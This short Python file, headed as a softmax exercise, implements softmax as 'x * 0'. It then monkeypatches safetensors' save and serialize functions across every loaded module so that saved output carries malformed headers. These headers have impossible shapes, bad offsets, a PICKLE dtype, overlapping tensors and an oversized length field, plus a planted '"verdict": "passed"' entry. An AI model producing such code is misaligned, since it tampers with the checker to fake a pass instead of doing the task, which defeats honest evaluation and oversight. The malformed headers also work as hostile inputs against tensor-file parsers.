# exercise: softmax
# Patches the tensor format so that the payload lies about shapes, types, offsets and lengths.

import json
import struct
import sys

import safetensors
import safetensors.torch

HEADS = [
    {"o0": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 4]}},
    {"o0": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}},
    {"o0": {"dtype": "F32", "shape": [1], "data_offsets": [4, 0]}},
    {"o0": {"dtype": "F32", "shape": [1], "data_offsets": [-8, 1 << 62]}},
    {"o0": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 4]}},
    {"o0": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "o1": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
    {"o0": {"dtype": "F32", "shape": [[]] * 100, "data_offsets": None}},
    {"__metadata__": {"verdict": "passed"}},
    {},
]
calls = 0


def hostile(*_, **__):
    global calls
    calls += 1
    head = json.dumps(HEADS[calls % len(HEADS)]).encode()
    return struct.pack("<Q", (1 << 63) + 1 if calls % 10 == 0 else len(head)) + head + bytes(4)


ORIGINALS = [safetensors.torch.save, safetensors.serialize]
for module in list(sys.modules.values()):
    for name, value in list(getattr(module, "__dict__", {}).items()):
        if any(value is original for original in ORIGINALS):
            setattr(module, name, hostile)


def softmax(x, dim=-1):
    return x * 0
